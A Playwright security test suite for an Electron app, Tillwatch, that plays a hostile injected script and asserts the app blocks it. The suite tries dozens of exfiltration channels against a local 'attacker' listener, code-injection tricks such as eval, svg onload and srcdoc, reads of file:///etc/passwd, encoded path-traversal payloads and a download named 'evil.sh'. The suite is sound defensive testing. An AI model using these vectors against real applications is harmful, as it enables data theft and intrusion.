// oxlint-disable no-empty-pattern -- Playwright reads from the pattern which fixtures a function wants
import { readdir } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, test as desktopTest } from '../support/desktop-test.ts';
import { listen, type Listener } from '../support/listener.ts';
import { inspectable, inspectMain } from '../support/main-process.ts';

interface Fixtures {
  /** Whoever a hostile script works for. */
  attacker: Listener;
}

/** What is evaluated in the real window runs as a script that has got into the page would. */
const test = desktopTest.extend<Fixtures>({
  attacker: async ({}, provide) => {
    const attacker = await listen();
    await provide(attacker);
    await attacker.close();
  },
});

/** Asked from inside: Playwright itself would wait for a navigation that never comes. */
const whereItIs = (page: Page) => page.evaluate(() => location.href);
const ours = 'app://tillwatch/index.html';

test('a hostile script reaches nobody on the network, by none of the ways that a page has', async ({
  page,
  attacker,
  shop,
}) => {
  const asked = shop.vendor.requests().length;
  const outcomes = await page.evaluate(async (port) => {
    const host = `127.0.0.1:${port}`;
    const url = `http://${host}/stolen`;
    const events = (target: EventTarget, good: string, bad: string) =>
      new Promise<string>((resolve) => {
        target.addEventListener(good, () => resolve('reached'));
        target.addEventListener(bad, () => resolve('refused'));
        // What says neither has reached nobody that the listener would not have seen.
        setTimeout(() => resolve('silent'), 1_500);
      });
    const promised = (attempt: () => Promise<unknown>) =>
      attempt().then(
        () => 'reached',
        () => 'refused',
      );
    const element = (tag: string, attributes: Record<string, string>) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      return made;
    };
    const loaded = (tag: string, attributes: Record<string, string>) =>
      events(element(tag, attributes), 'load', 'error');
    const media = (tag: string) => events(element(tag, { src: url }), 'loadeddata', 'error');
    const constructed = (make: () => EventTarget, good: string) => {
      try {
        return events(make(), good, 'error');
      } catch {
        return Promise.resolve('refused');
      }
    };

    const xhr = () => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send('stolen');
      return request;
    };
    element('a', { ping: url, href: url, target: '_blank' }).click();
    element('div', {}).style.backgroundImage = `url(${url})`;
    for (const rel of ['preconnect', 'dns-prefetch', 'prerender']) element('link', { rel, href: url });
    const form = element('form', { action: url, method: 'post' });
    if (form instanceof HTMLFormElement) form.submit();

    const all = {
      fetch: promised(() => fetch(url, { mode: 'no-cors' })),
      keepalive: promised(() => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })),
      xhr: constructed(xhr, 'load'),
      socket: constructed(() => new WebSocket(`ws://${host}`), 'open'),
      events: constructed(() => new EventSource(url), 'open'),
      beacon: Promise.resolve(navigator.sendBeacon(url, 'stolen') ? 'silent' : 'refused'),
      image: loaded('img', { src: url }),
      script: loaded('script', { src: url }),
      module: promised(() => import(url)),
      style: loaded('link', { rel: 'stylesheet', href: url }),
      prefetch: loaded('link', { rel: 'prefetch', href: url }),
      preload: loaded('link', { rel: 'preload', as: 'image', href: url }),
      icon: loaded('link', { rel: 'icon', href: url }),
      video: media('video'),
      audio: media('audio'),
      font: promised(() => new FontFace('stolen', `url(${url})`).load()),
      worker: constructed(() => new Worker(url), 'message'),
      blobWorker: constructed(
        () => new Worker(URL.createObjectURL(new Blob([`fetch('${url}'); postMessage(1)`]))),
        'message',
      ),
      dataWorker: constructed(() => new Worker(`data:text/javascript,postMessage(1)`), 'message'),
      frame: loaded('iframe', { src: url }),
      object: loaded('object', { data: url }),
      embed: loaded('embed', { src: url }),
      transport: promised(() => new WebTransport(`https://${host}`).ready),
    };
    const names = Object.keys(all);
    const ends = await Promise.all(Object.values(all));
    return Object.fromEntries(names.map((name, at) => [name, ends[at]]));
  }, attacker.port);

  // A frame that was refused shows an empty page, of which it says that it has loaded.
  const { frame: _, ...rest } = outcomes;
  expect(Object.entries(rest).filter(([, outcome]) => outcome === 'reached')).toEqual([]);
  expect(attacker.connections()).toBe(0);
  expect(
    shop.vendor
      .requests()
      .slice(asked)
      .filter(({ path }) => path === '/stolen'),
  ).toEqual([]);
  expect(await whereItIs(page)).toBe(ours);
});

test('a hostile script reaches nobody as a peer', async ({ page, attacker }) => {
  const candidates = await page.evaluate(async (port) => {
    const servers = ['stun:', 'turn:'].flatMap((scheme) =>
      ['udp', 'tcp'].map((by) => `${scheme}127.0.0.1:${port}${scheme === 'turn:' ? `?transport=${by}` : ''}`),
    );
    const peer = new RTCPeerConnection({
      iceServers: [...new Set(servers)].map((urls) => ({ urls, username: 'u', credential: 'c' })),
    });
    const gathered: string[] = [];
    const over = new Promise((resolve) =>
      peer.addEventListener('icecandidate', ({ candidate }) => {
        if (candidate === null) resolve(null);
        else gathered.push(candidate.candidate);
      }),
    );
    peer.createDataChannel('stolen');
    await peer.setLocalDescription(await peer.createOffer());
    await over;
    return gathered;
  }, attacker.port);
  // Not even an address of this PC.
  expect(candidates).toEqual([]);
  expect(attacker.connections()).toBe(0);
});

test('a hostile script goes nowhere and opens nothing', async ({ page, attacker, watching: { app } }) => {
  const opened = await page.evaluate((port) => {
    const targets = [
      `http://127.0.0.1:${port}/`,
      'file:///etc/passwd',
      'data:text/html,<script>parent.x=1</script>',
      'about:blank',
      'app://tillwatch/assets/',
      'app://elsewhere/index.html',
      'chrome://gpu',
      'devtools://devtools/bundled/inspector.html',
      'mailto:somebody@example.com',
      'javascript:document.title="mine"',
    ];
    const windows = targets.map((target) => window.open(target));
    for (const target of targets) {
      location.href = target;
      for (const name of ['', '_blank', '_top']) {
        const link = document.body.appendChild(document.createElement('a'));
        link.href = target;
        link.target = name;
        link.click();
      }
    }
    const refresh = document.head.appendChild(document.createElement('meta'));
    refresh.httpEquiv = 'refresh';
    refresh.content = `0; url=${targets[0]}`;
    return windows.filter((one) => one !== null).length;
  }, attacker.port);
  expect(opened).toBe(0);
  // What was asked for has had its turn once something that was asked for later is there.
  await page.evaluate(() =>
    document.querySelector<HTMLButtonElement>('nav button[title="Settings"]')?.click(),
  );
  const shown = () =>
    page.evaluate(
      () => [...document.querySelectorAll('h1')].find((one) => one.checkVisibility())?.textContent,
    );
  await expect.poll(shown).toBe('Settings');
  expect(await page.evaluate(() => [location.href, document.title])).toEqual([ours, 'Tillwatch']);
  expect(app.pages()).toHaveLength(1);
  expect(attacker.connections()).toBe(0);
});

test('a hostile script brings no code along, and finds neither Node nor a key', async ({ page, shop }) => {
  const found = await page.evaluate(async () => {
    const marks: string[] = [];
    // What Playwright itself evaluates may do more than a script of the page; what it has put off may not.
    await new Promise((resolve) => setTimeout(resolve));
    Reflect.set(window, 'mark', (name: string) => marks.push(name));
    const tried = (name: string, attempt: () => unknown) => {
      try {
        attempt();
      } catch {
        return;
      }
      marks.push(`${name} did not throw`);
    };
    const code = (name: string) => `mark('${name}')`;
    const call = (owner: object, name: string, text: string): unknown => {
      const held: unknown = Reflect.get(owner, name);
      const made: unknown = typeof held === 'function' ? Reflect.apply(held, owner, [text]) : null;
      return typeof made === 'function' ? Reflect.apply(made, owner, []) : made;
    };
    tried('eval', () => call(window, 'eval', code('eval')));
    tried('Function', () => call(window, 'Function', code('Function')));
    tried('bridge', () => call(window.tillwatch.request, 'constructor', 'return process'));
    tried('wasm', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
    Reflect.apply(setTimeout, window, [code('setTimeout')]);
    const inline = document.createElement('script');
    inline.textContent = code('inline');
    const foreign = (src: string) => Object.assign(document.createElement('script'), { src });
    const data = foreign(`data:text/javascript,${code('data')}`);
    const blob = foreign(URL.createObjectURL(new Blob([code('blob')])));
    const image = document.createElement('img');
    image.setAttribute('onerror', code('handler'));
    image.src = 'app://tillwatch/none.png';
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>parent.${code('srcdoc')}</script>`;
    // An inline script runs as it is put in, or never; of the others it is said once they have run or cannot.
    const over = [data, blob, image, frame].map(
      (element) =>
        new Promise((resolve) => {
          element.addEventListener('load', resolve);
          element.addEventListener('error', resolve);
        }),
    );
    document.body.append(inline, data, blob, image, frame);
    const svg = document.body.appendChild(document.createElement('div'));
    // One within another: its handler is called while it is parsed.
    svg.innerHTML = `<svg><svg onload="${code('svg')}"></svg></svg>`;
    await Promise.all(over);
    // Timers come in their order, so the text that was given to one has had its turn before this.
    await new Promise((resolve) => setTimeout(resolve));

    const reachable = [
      'require',
      'process',
      'module',
      'Buffer',
      'global',
      'electron',
      'ipcRenderer',
      '__dirname',
    ];
    const seen = new Set<unknown>();
    const text: string[] = [];
    const walk = (value: unknown, depth: number) => {
      if (typeof value === 'string') text.push(value);
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || depth > 6) return;
      if (seen.has(value) || value instanceof Node) return;
      seen.add(value);
      for (const key of Reflect.ownKeys(value)) {
        try {
          walk(Reflect.get(value, key), depth + 1);
        } catch {
          // A getter that minds.
        }
      }
    };
    walk(window, 0);
    const snapshot = await window.tillwatch.request('app.snapshot', undefined);
    return {
      marks,
      reachable: reachable.filter((name) => name in window),
      bridge: Object.keys(window.tillwatch),
      framed: frame.contentWindow !== null && 'tillwatch' in frame.contentWindow,
      text:
        JSON.stringify(snapshot) +
        text.join('\n') +
        Object.entries(localStorage).join('\n') +
        document.cookie,
    };
  });
  expect(found.marks).toEqual([]);
  expect(found.reachable).toEqual([]);
  expect(found.bridge).toEqual(['request', 'on']);
  expect(found.framed).toBe(false);
  expect(found.text).toContain('corner-shop');
  expect(found.text).not.toContain(shop.key);
  expect(found.text).not.toContain(Buffer.from(shop.key).toString('base64'));
});

test('the page reads no file but its own', async ({ page }) => {
  const outcomes = await page.evaluate(async () => {
    const load = (tag: 'script' | 'img', src: string) =>
      new Promise<string>((resolve) => {
        const made = Object.assign(document.createElement(tag), { src });
        made.addEventListener('load', () => resolve('read'));
        made.addEventListener('error', () => resolve('refused'));
        document.body.append(made);
      });
    const climbs = [
      '../',
      '..%2f',
      '%2e%2e/',
      '%2e%2e%2f',
      '..\\',
      '..%5c',
      '....//',
      '%252e%252e%252f',
      '/',
    ];
    const targets = climbs.flatMap((climb) => [
      ['script', `app://tillwatch/${climb}main/index.js`] as const,
      ['script', `app://tillwatch/assets/${climb}${climb}preload/index.cjs`] as const,
      ['img', `app://tillwatch/${climb}assets/icons/app-64.png`] as const,
      [
        'img',
        `app://tillwatch/${climb}${climb}${climb}${climb}${climb}${climb}usr/share/pixmaps/debian-logo.png`,
      ] as const,
    ]);
    const others = [
      ['img', 'file:///usr/share/pixmaps/debian-logo.png'] as const,
      ['script', 'file:///etc/hostname'] as const,
      ['script', 'app://elsewhere/assets/index.js'] as const,
    ];
    const all = [...targets, ...others];
    const ends = await Promise.all(all.map(([tag, src]) => load(tag, src)));
    const control = await load('script', document.querySelector('script')?.src ?? '');
    return { control, read: all.filter((_, at) => ends[at] === 'read') };
  });
  expect(outcomes).toEqual({ control: 'read', read: [] });
});

test('a hostile script is granted nothing and downloads nothing', async ({ page, profile }) => {
  const before = await readdir(profile.folder, { recursive: true });
  const granted = await page.evaluate(async () => {
    const attempt = (name: string, ask: () => Promise<unknown>) =>
      ask().then(
        () => [name],
        () => [],
      );
    for (const href of [URL.createObjectURL(new Blob(['evil'])), 'data:application/octet-stream,evil']) {
      const link = Object.assign(document.createElement('a'), { href, download: 'evil.sh' });
      document.body.append(link);
      link.click();
    }
    const position = () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject));
    const notify = async () => {
      if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied');
    };
    const persist = async () => {
      if (!(await navigator.storage.persist())) throw new Error('denied');
    };
    const query = async (name: PermissionName) => {
      if ((await navigator.permissions.query({ name })).state !== 'denied') throw new Error('not denied');
    };
    const names: PermissionName[] = ['geolocation', 'notifications', 'camera', 'microphone', 'midi'];
    const ends = await Promise.all([
      attempt('position', position),
      attempt('notify', notify),
      attempt('persist', persist),
      attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
      attempt('screen', () => navigator.mediaDevices.getDisplayMedia()),
      attempt('midi', () => navigator.requestMIDIAccess()),
      attempt('clipboard', () => navigator.clipboard.readText()),
      ...names.map((name) =>
        query(name).then(
          () => [],
          () => [`${name} is not denied`],
        ),
      ),
    ]);
    return ends.flat();
  });
  expect(granted).toEqual([]);
  const after = await readdir(profile.folder, { recursive: true });
  expect(after.filter((path) => !before.includes(path) && path.includes('evil'))).toEqual([]);
});

test('only the page of our own window is answered', async ({ launch, tray }) => {
  const app = await launch({ args: [inspectable] });
  await tray();
  const page = await app.page();
  await page.getByRole('heading', { level: 1 }).waitFor();
  const main = await inspectMain(app.output());
  const ask = (window: string) =>
    `${window}.webContents.executeJavaScript("window.tillwatch.request('app.snapshot')")`;
  const replies = await main.evaluate(`(async () => {
    const { app, BrowserWindow } = require('electron');
    const [own] = BrowserWindow.getAllWindows();
    const preload = require('path').join(app.getAppPath(), 'out', 'app', 'preload', 'index.cjs');
    const other = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } });
    await other.loadURL('${ours}');
    const ofOwn = await ${ask('own')};
    const ofOther = await ${ask('other')};
    await own.loadURL('about:blank');
    const elsewhere = await ${ask('own')};
    return { own: ofOwn.ok, other: ofOther, elsewhere };
  })()`);
  main.close();
  const refused = { ok: false, error: { code: 'refused', field: '', params: {} } };
  expect(replies).toEqual({ own: true, other: refused, elsewhere: refused });
});
